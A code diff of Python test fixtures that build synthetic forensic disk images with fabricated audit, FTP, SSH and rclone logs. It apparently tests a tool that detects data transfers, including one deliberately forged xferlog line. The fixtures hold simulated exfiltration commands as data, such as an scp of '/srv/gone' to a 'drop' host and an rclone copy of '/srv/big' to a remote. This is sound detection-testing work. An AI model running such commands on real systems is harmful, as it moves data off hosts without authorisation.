@@ -587,19 +587,63 @@ def sizes():
     job(730, curl, "/usr/bin/curl", *curl.split(), address="203.0.113.13", port=21)
     gone = "scp /srv/gone drop@203.0.113.14:"
     job(740, gone, "/usr/bin/scp", *gone.split(), address="203.0.113.14")
+    return image(
+        ("etc/hostname", b"etl-01\n", 0), ("etc/passwd", b"root:x:0:0::/root:/bin/sh\n", 0),
+        ("opt/batch", b"lcd /srv\nput a up/\nput tree/1\nmput *.txt\n", 1796100000),
+        ("srv/a", bytes(5 << 20), 1796100000), ("srv/late", b"x" * 70, 1796200000),
+        ("srv/tree/1", bytes(150 << 20), 1796100000), ("srv/tree/2", b"x", 1796100000),
+        ("srv/n.txt", b"note", 1796100000),
+        ("var/log/audit/audit.log", story.text().encode(), 1796180000))
+
+
+def image(*files):
+    """Of (name, content, time of last change), packed so that the times stay."""
     made = io.BytesIO()
     with tarfile.open(fileobj=made, mode="w:xz", format=tarfile.USTAR_FORMAT) as tar:
-        for name, data, changed in (
-                ("etc/hostname", b"etl-01\n", 0), ("etc/passwd", b"root:x:0:0::/root:/bin/sh\n", 0),
-                ("opt/batch", b"lcd /srv\nput a up/\nput tree/1\nmput *.txt\n", 1796100000),
-                ("srv/a", bytes(5 << 20), 1796100000), ("srv/late", b"x" * 70, 1796200000),
-                ("srv/tree/1", bytes(150 << 20), 1796100000), ("srv/tree/2", b"x", 1796100000),
-                ("srv/n.txt", b"note", 1796100000),
-                ("var/log/audit/audit.log", story.text().encode(), 1796180000)):
+        for name, data, changed in files:
             member = tarfile.TarInfo(name)
             member.size, member.mtime = len(data), changed
             tar.addfile(member, io.BytesIO(data))
     return {"image.tar.xz": made.getvalue()}
+
+
+def served():
+    """An image whose audit log has no bytes, and whose servers and rclone tell what they sent; one
+    line of xferlog is forged: it tells of a terabyte to a peer that came, one of a peer that did not."""
+    story = Story()
+    init = story.process(1, 0, "/usr/lib/systemd/systemd")
+    ftpd = init.fork(400).exec("/usr/sbin/vsftpd", "/usr/sbin/vsftpd", "/etc/vsftpd.conf", cwd="/")
+    sshd = init.fork(410).exec("/usr/sbin/sshd", "/usr/sbin/sshd", "-D", cwd="/")
+    story.wait(60)  # 01:01:01
+    ftpd.accept(3, 4, "203.0.113.48", 40000)
+    ftpd.accept(3, 5, "203.0.113.66", 40666)
+    sshd.accept(3, 4, "203.0.113.49", 41000)
+    sshd.accept(3, 4, "203.0.113.50", 41001)
+    shell = story.cron_job("rclone copy -v --log-file=/var/log/rclone.log /srv/big far:up")
+    shell.fork(702).exec("/usr/bin/rclone", "rclone", "copy", "-v", "--log-file=/var/log/rclone.log",
+                         "/srv/big", "far:up").connect(5, "203.0.113.20", 443)
+    day = "Wed Dec  2"
+    end = "b _ o r web ftp 0 * c\n"
+    xferlog = (f"{day} 02:01:05 2026 2 203.0.113.48 3000000 /srv/web/a {end}"
+               f"{day} 02:02:05 2026 1 203.0.113.48 700 /srv/web/b {end}"
+               f"{day} 02:02:06 2026 1 203.0.113.48 9000000 /srv/web/in {end.replace(' o ', ' i ')}"
+               f"{day} 02:02:05 2026 1 203.0.113.66 1000000000000 /srv/web/b {end}"
+               f"{day} 02:02:05 2026 1 203.0.113.77 1000000000000 /srv/web/b {end}")
+    stamp = "2026-12-02T02:01:{}.000000+01:00 etl-01 {}\n".format
+    auth = (stamp("03", "sftp-server[500]: session opened for local user web from [203.0.113.49]") +
+            stamp("04", 'sftp-server[500]: close "/srv/web/c" bytes read 5000000 written 0') +
+            stamp("05", 'sftp-server[500]: close "/srv/web/d" bytes read 0 written 77') +
+            stamp("06", "sshd[420]: Transferred: sent 812345, received 5241 bytes") +
+            stamp("06", "sshd[420]: Closing connection to 203.0.113.50 port 41001"))
+    rclone = ("2026/12/02 02:01:09 INFO  : big: Copied (new)\n2026/12/02 02:01:09 INFO  : \n"
+              "Transferred:   \t  200.5 MiB / 200.5 MiB, 100%, 40 MiB/s, ETA 0s\n"
+              "Transferred:            1 / 1, 100%\nElapsed time:         7.2s\n\n")
+    return image(("etc/hostname", b"etl-01\n", 0), ("etc/timezone", b"Europe/Berlin\n", 0),
+                 ("etc/passwd", b"root:x:0:0::/root:/bin/sh\n", 0),
+                 ("var/log/xferlog", xferlog.encode(), 1796180000),
+                 ("var/log/auth.log", auth.encode(), 1796180000),
+                 ("var/log/rclone.log", rclone.encode(), 1796180000),
+                 ("var/log/audit/audit.log", story.text().encode(), 1796180000))
 
 
 def signs_of_techniques():
@@ -674,6 +718,7 @@ LOGS = {"judge-keys": signs_of_techniques, "scan-argv-peers": argv_peers, "scan-
         "coverage-csv": many_descriptors,
         "scan-bounds": many_descriptors,
         "scan-image-sizes": sizes, "transfers-image-sizes": sizes,
+        "scan-image-told": served, "transfers-image-told": served,
         "scan-sudo": sudo_only,
         "scan-logins": logins,
         "scan-files": packed_and_removed, "explain-files": packed_and_removed,
